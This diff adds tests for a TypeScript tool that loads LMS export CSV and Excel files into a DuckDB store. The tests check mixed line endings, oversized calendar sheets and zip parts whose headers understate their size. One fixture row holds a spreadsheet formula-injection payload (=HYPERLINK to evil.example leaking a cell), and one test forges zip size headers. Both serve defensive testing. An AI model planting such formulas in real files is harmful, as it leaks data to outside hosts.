@@ -1,4 +1,5 @@
 import fs from 'node:fs';
+import { createRequire } from 'node:module';
 import os from 'node:os';
 import path from 'node:path';
 import ExcelJS from 'exceljs';
@@ -179,6 +180,53 @@ describe('loading export files into bronze', () => {
     expect(await rows('select count(*) as n from bronze.users')).toEqual([{ n: 0 }]);
   });
 
+  it('loads a CRLF file whose quoted value holds a line feed, keeping the value with its line break', async () => {
+    writeMinimalExport(landing);
+    fs.writeFileSync(path.join(landing, 'users.csv'), [
+      header('users'),
+      '1,ada,E1,"Ada\nMarie",Lovelace,ada@example.com,Eng,London,GB,99,0,0,1700000000,1710000000',
+      '2,grace,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
+      '',
+    ].join('\r\n'));
+    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
+    expect(report.files.find((f) => f.table === 'users')).toMatchObject({ rowsRead: 2, rowsLoaded: 2, rowsQuarantined: 0 });
+    expect(await rows('select id, firstname, _source_line from bronze.users order by id')).toEqual([
+      { id: '1', firstname: 'Ada\nMarie', _source_line: 2 },
+      { id: '2', firstname: 'Grace', _source_line: 4 },
+    ]);
+  });
+
+  it.each([
+    ['a value with a line break not in quotes', '3,lin,E3,Multi\nLine,Lin,lin@example.com,Eng,Paris,FR,99,0,0,1700000000,1710000000', 'line 3 ends with a line feed (LF) alone', '"3,lin,E3,Multi"'],
+    ['rows with LF line endings pasted in, one with quotes inside an unquoted value', '=HYPERLINK("http://evil.example/?leak="&B2),x,,a,b,c@x.example,d,e,GB,Europe/London,0,0,1,1\n4,kim,E4,Kim,Lee,kim@example.com,Eng,Seoul,KR,99,0,0,1700000000,1710000000', 'line 3 ends with a line feed (LF) alone', '"…c@x.example,d,e,GB,Europe/London,0,0,1,1"'],
+    ['a carriage return alone inside a value', '3,lin,E3,Multi\rLine,Lin,lin@example.com,Eng,Paris,FR,99,0,0,1700000000,1710000000', 'line 3 ends with a carriage return (CR) alone', '"3,lin,E3,Multi"'],
+  ])('refuses a CRLF file with %s, naming the file, the line and how to fix it, not as a failure for Kineo support, and changes nothing', async (_, line, says, before) => {
+    writeMinimalExport(landing);
+    fs.writeFileSync(path.join(landing, 'users.csv'), [
+      header('users'),
+      '1,ada,E1,Ada,Lovelace,ada@example.com,Eng,London,GB,99,0,0,1700000000,1710000000',
+      line,
+      '2,grace,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
+      '',
+    ].join('\r\n'));
+    const error = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch()).catch((e) => e);
+    expect(error).toBeInstanceOf(LoadRejectedError);
+    expect(error.message).toContain(`The load was rejected and nothing was changed:\n  users.csv: ${says}, where the file's other lines end with CRLF (after ${before}): `);
+    expect(error.message).toMatch(/save the file again with one kind of line ending \(Windows CRLF or Unix LF\), and load it again$/);
+    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
+    expect(await rows('select count(*) as n from bronze.users')).toEqual([{ n: 0 }]);
+  });
+
+  it('refuses a file the CSV reader gives up on where no line can be named (an LF alone among old Mac CR line endings), as the org admin\'s to fix, and changes nothing', async () => {
+    writeMinimalExport(landing);
+    fs.writeFileSync(path.join(landing, 'courses.csv'), [header('courses'), '100,Fire\nsafety,FS,C100,1,0,1,1700000000,1', '101,First aid,FA,C101,1,0,1,1700000000,1', ''].join('\r'));
+    const error = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch()).catch((e) => e);
+    expect(error).toBeInstanceOf(LoadRejectedError);
+    expect(error.message).toBe('The load was rejected and nothing was changed:\n  courses.csv: the file cannot be read as CSV: the reader stopped at a line it cannot make sense of, and cannot say which. ' +
+      'Open it in a spreadsheet and save it again as "CSV UTF-8 (comma delimited)", or export it again from the LMS, and load it again');
+    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
+  });
+
   it.each([150, 34_000])('numbers the rows of a file of %i records with a blank line after every second one, past a two-line value and a ragged record', async (records) => {
     writeMinimalExport(landing);
     const { lineOfId } = writeCoursesDoubleSpaced(landing, records);
@@ -331,6 +379,66 @@ describe('loading export files into bronze', () => {
     expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'dimdates'")).toEqual([{ _source_line: 6, reason: 'date is not a date: "not a date"' }]);
   });
 
+  it('loads the calendar from the first sheet with its columns, past a sheet without them', async () => {
+    const paths = writeMinimalExport(landing);
+    const workbook = new ExcelJS.Workbook();
+    workbook.addWorksheet('Notes').getRow(1).values = ['Our fiscal year starts on 1 July'];
+    const sheet = workbook.addWorksheet('Calendar');
+    sheet.getRow(1).values = ['Date', 'Fiscal_Year', 'fiscal_quarter', 'fiscal_period'];
+    sheet.getRow(2).values = [new Date(Date.UTC(2024, 5, 30)), 2024, 4, { formula: '6*2', result: 12 }];
+    workbook.addWorksheet('Copy').getRow(1).values = ['date', 'fiscal_year', 'fiscal_quarter', 'fiscal_period'];
+    const xlsx = path.join(landing, 'dimdates.xlsx');
+    await workbook.xlsx.writeFile(xlsx);
+    const report = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch());
+    expect(report.files.find((f) => f.table === 'dimdates')).toMatchObject({ rowsRead: 1, rowsLoaded: 1, rowsQuarantined: 0 });
+    expect(await rows('select date, fiscal_year, fiscal_period from bronze.dimdates')).toEqual([{ date: '2024-06-30', fiscal_year: '2024', fiscal_period: '12' }]);
+  });
+
+  it('refuses a calendar workbook of more than 100,000 rows at the first row past them, reading no further, and changes nothing', async () => {
+    const paths = writeMinimalExport(landing);
+    const day = (r: number) => `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>2024-07-01</t></is></c><c r="B${r}"><v>2025</v></c><c r="C${r}"><v>1</v></c><c r="D${r}"><v>1</v></c></row>`;
+    const cells = ['date', 'fiscal_year', 'fiscal_quarter', 'fiscal_period'].map((name, i) => `<c r="${'ABCD'[i]}1" t="inlineStr"><is><t>${name}</t></is></c>`);
+    const sheetRows = [`<row r="1">${cells.join('')}</row>`];
+    for (let r = 2; r <= 120_000; r++) sheetRows.push(day(r));
+    // Past the rows a calendar can have, the sheet stops being XML: reading it all would fail on that instead.
+    const xml = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>${sheetRows.join('')}<row r="120001"><c <<< not xml`;
+    const xlsx = await writeRawWorkbook(path.join(landing, 'dimdates.xlsx'), xml);
+    const error = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch()).catch((e) => e);
+    expect(error).toBeInstanceOf(LoadRejectedError);
+    expect(error.message).toBe('The load was rejected and nothing was changed:\n  dimdates.xlsx: the sheet "Calendar" has more than 100,000 rows; ' +
+      'a fiscal calendar has one row per day (100,000 days are over 270 years). Keep only the calendar in the sheet, and load it again');
+    // Nor is the CSV it was writing left beside it.
+    expect(fs.existsSync(`${xlsx}.csv`)).toBe(false);
+    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
+  });
+
+  it('refuses a workbook whose shared strings unzip to more than a calendar can have, before reading them', async () => {
+    const paths = writeMinimalExport(landing);
+    const strings = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${MAIN}">${'<si><t>2024-07-01</t></si>'.repeat(1_500_000)}</sst>`;
+    const xlsx = await writeRawWorkbook(path.join(landing, 'dimdates.xlsx'), `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData></sheetData></worksheet>`, strings);
+    const error = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch()).catch((e) => e);
+    expect(error).toBeInstanceOf(LoadRejectedError);
+    expect(error.message).toMatch(/dimdates\.xlsx: the workbook's part xl\/sharedStrings\.xml is 38 MB unzipped, more than a fiscal calendar's can be \(32 MB\)/);
+  });
+
+  it('refuses a workbook whose shared strings unzip to more than a calendar can have though the zip says less, counted as they unzip', async () => {
+    const paths = writeMinimalExport(landing);
+    const strings = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${MAIN}">${'<si><t>2024-07-01</t></si>'.repeat(1_500_000)}</sst>`;
+    const xlsx = await writeRawWorkbook(path.join(landing, 'dimdates.xlsx'), `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData></sheetData></worksheet>`, strings);
+    // The zip's own headers (the local one and the directory's) say the part unzips to 1 KB.
+    const zip = fs.readFileSync(xlsx);
+    const name = Buffer.from('xl/sharedStrings.xml');
+    for (const [signature, nameAt, sizeAt] of [[0x04034b50, 30, 22], [0x02014b50, 46, 24]]) {
+      for (let at = zip.indexOf(name); at !== -1; at = zip.indexOf(name, at + 1)) {
+        if (zip.readUInt32LE(at - nameAt) === signature) zip.writeUInt32LE(1024, at - nameAt + sizeAt);
+      }
+    }
+    fs.writeFileSync(xlsx, zip);
+    const error = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch()).catch((e) => e);
+    expect(error).toBeInstanceOf(LoadRejectedError);
+    expect(error.message).toMatch(/dimdates\.xlsx: the workbook's part xl\/sharedStrings\.xml is 33 MB unzipped, more than a fiscal calendar's can be \(32 MB\)/);
+  });
+
   it('numbers rows by their line in a file large enough for DuckDB to read in parallel', async () => {
     const paths = writeMinimalExport(landing);
     // About 20 MB: several of DuckDB's read ranges, so both threads parse parts of the file at once,
@@ -474,3 +582,25 @@ describe('loading export files into bronze', () => {
     ]);
   });
 });
+
+const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+
+/** A workbook of one sheet "Calendar" written part by part (its sheet's XML as given), as any program may write one. */
+async function writeRawWorkbook(file: string, sheetXml: string, sharedStringsXml?: string): Promise<string> {
+  // The zip library exceljs writes with.
+  const JSZip = createRequire(require.resolve('exceljs'))('jszip') as new () => {
+    file(name: string, content: string): void;
+    generateAsync(options: object): Promise<Buffer>;
+  };
+  const zip = new JSZip();
+  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  zip.file('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>');
+  zip.file('_rels/.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`);
+  zip.file('xl/workbook.xml', `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${MAIN}" xmlns:r="${rel}"><sheets><sheet name="Calendar" sheetId="1" r:id="rId1"/></sheets></workbook>`);
+  zip.file('xl/_rels/workbook.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`);
+  if (sharedStringsXml) zip.file('xl/sharedStrings.xml', sharedStringsXml);
+  zip.file('xl/worksheets/sheet1.xml', sheetXml);
+  fs.mkdirSync(path.dirname(file), { recursive: true });
+  fs.writeFileSync(file, await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
+  return file;
+}
